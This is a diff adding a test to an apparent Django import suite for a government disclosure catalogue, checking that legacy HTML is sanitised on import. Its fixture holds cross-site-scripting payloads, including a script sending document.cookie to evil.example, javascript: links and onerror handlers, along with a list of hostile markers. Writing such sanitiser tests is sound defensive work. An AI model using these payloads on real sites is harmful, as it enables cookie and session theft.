@@ -161,3 +161,34 @@ def test_rows_are_read_from_jsonl(tmp_path, catalogue):
                                          ensure_ascii=False) for n in (1, 2)), encoding="utf-8")
     call_command("import_catalogue", str(path), "--no-submit", verbosity=0)
     assert DisclosureItemPage.objects.count() == 2
+
+
+HOSTILE_BODY = (
+    '<p onclick="steal()">各乡镇：<script>document.location="https://evil.example/?c="+document.cookie</script>'
+    '现将补贴名单公布如下。<a href="javascript:alert(1)">点此查看</a>'
+    '<a href="https://www.gov.cn/zhengce/">国务院政策</a></p>'
+    '<iframe src="https://evil.example/"></iframe><img src="x" onerror="alert(2)">'
+    '<style>body{display:none}</style><table><tr><td>张三</td><td>2000元</td></tr></table>'
+)
+
+
+def test_legacy_html_is_sanitised_on_import_and_served_without_scripts(catalogue, client, reviewer):
+    from review_workflow.legacy import record_legacy_review
+
+    report = import_rows(
+        [legacy_row(1, organ="方山县人民政府办公室", body=HOSTILE_BODY)],
+        legacy_published=True,
+        before_publish=lambda revision: record_legacy_review(revision, reviewer, basis="旧系统已审"),
+    )
+    assert report.errors == []
+    item = DisclosureItemPage.objects.get(external_id="OLD-0001")
+    assert item.live
+
+    for stored in (item.body, item.get_latest_revision_as_object().body):
+        for hostile in ("<script", "document.cookie", "javascript:", "<iframe", "onclick", "onerror", "<style"):
+            assert hostile not in stored.lower()
+        assert "现将补贴名单公布如下。" in stored and "点此查看" in stored
+        assert '<a href="https://www.gov.cn/zhengce/">国务院政策</a>' in stored
+        assert "<td>张三</td>" in stored, "legacy tables keep their cells"
+    page = client.get(item.url).content.decode()
+    assert "evil.example" not in page and "javascript:alert" not in page
